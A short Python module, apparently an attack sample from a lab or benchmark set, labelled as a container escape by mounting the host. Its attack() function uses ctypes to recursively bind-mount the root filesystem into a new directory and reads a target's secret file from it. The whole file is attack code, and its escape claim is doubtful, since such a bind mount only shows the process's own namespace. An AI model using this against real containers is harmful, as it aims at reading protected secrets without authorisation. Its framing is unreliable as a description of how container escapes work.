"""Bind the root somewhere else and look again."""

from __future__ import annotations

import ctypes
import os

ORIGIN = "Container escapes by mounting the host."
SEEN = "secret"
CONTROL = "namespace"


def attack(target):
    os.mkdir("elsewhere")
    ctypes.CDLL(None).mount(b"/", b"elsewhere", None, 4096 | 16384, None)
    with open("elsewhere" + target["secret_file"]) as stream:
        return stream.read()
